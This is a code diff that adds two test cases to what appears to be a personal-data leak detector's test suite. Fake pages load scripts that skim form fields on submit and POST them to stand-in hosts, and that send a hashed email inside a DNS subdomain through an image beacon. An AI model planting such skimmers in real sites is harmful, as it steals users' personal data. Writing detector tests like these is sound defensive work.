@@ -182,4 +182,85 @@ export default [
     proof: ['in.eventcount.example/e'],
     expect: [{ kind: 'form-data', fields: ['email', 'name'] }],
   },
+  {
+    id: 'lk-in-pieces',
+    reason:
+      'a short surname, a postal code as a number, both names as one, and the telephone with its code',
+    host: 'copper-kettles.example',
+    page: page({
+      body: `${form(
+        field('First name', 'name="first_name" autocomplete="given-name"'),
+        field('Last name', 'name="last_name" autocomplete="family-name"'),
+        field('Postal code', 'name="zip" autocomplete="postal-code"'),
+        field('Phone', 'name="phone" type="tel" autocomplete="tel"'),
+      )}<script src="https://cdn.piecework.example/p.js"></script>`,
+    }),
+    web: {
+      'cdn.piecework.example': {
+        '/p.js': file(() => {
+          document.addEventListener('submit', () => {
+            const value = (name) => document.querySelector(`[name=${name}]`).value;
+            const send = (host, said) =>
+              fetch(`https://${host}/p`, { method: 'POST', body: JSON.stringify(said) });
+            void send('short.piecework.example', {
+              lastName: value('last_name'),
+              address: { zip: Number(value('zip')) },
+            });
+            void send('whole.joinedwork.example', {
+              who: `${value('first_name')} ${value('last_name')}`,
+              call: value('phone').replace(/^0/, '+46').replace(/\D/g, ''),
+            });
+          });
+        }),
+      },
+    },
+    actions: [
+      { type: { sel: '[name=first_name]', text: 'Greta' } },
+      { type: { sel: '[name=last_name]', text: 'Skog' } },
+      { type: { sel: '[name=zip]', text: '10115' } },
+      { type: { sel: '[name=phone]', text: '070-123 45 67' } },
+      { click: 'button' },
+      { wait: 500 },
+    ],
+    proof: ['short.piecework.example/p', 'whole.joinedwork.example/p'],
+    expect: [
+      { kind: 'leak', data: 'name', to: 'short.piecework.example' },
+      { kind: 'leak', data: 'postal-code', to: 'short.piecework.example' },
+      { kind: 'leak', data: 'name', to: 'whole.joinedwork.example' },
+      { kind: 'leak', data: 'tel', to: 'whole.joinedwork.example' },
+      { kind: 'form-data', fields: ['name', 'postal-code', 'tel'] },
+    ],
+    allow: ['tracker'],
+  },
+  {
+    id: 'lk-in-a-name-of-a-host',
+    reason: 'the address stands hashed in the name that a server is asked for by, in two parts',
+    host: 'willow-crates.example',
+    page: loads('https://cdn.c.hostmark.example/c.js', 'https://cdn.hostmark.example/h.js').replace(
+      '</main>',
+      `${form(field('Email', MAIL))}</main>`,
+    ),
+    web: {
+      'cdn.c.hostmark.example': { '/c.js': bundle('codings') },
+      'cdn.hostmark.example': {
+        '/h.js': file(() => {
+          document.addEventListener('change', ({ target }) => {
+            const mark = globalThis.coded(target.value, 'lower>sha256');
+            new Image().src = `https://${mark.slice(0, 32)}.${mark.slice(32)}.hostmark.example/i`;
+          });
+        }),
+      },
+    },
+    actions: [
+      { type: { sel: 'input', text: 'lena.willow@post.example' } },
+      { click: 'h1' },
+      { wait: 500 },
+    ],
+    proof: ['.hostmark.example/i'],
+    expect: [
+      { kind: 'leak', data: 'email', to: 'hostmark.example', before: 'submit', channel: 'img' },
+      { kind: 'form-data', fields: ['email'] },
+    ],
+    allow: ['tracker'],
+  },
 ];
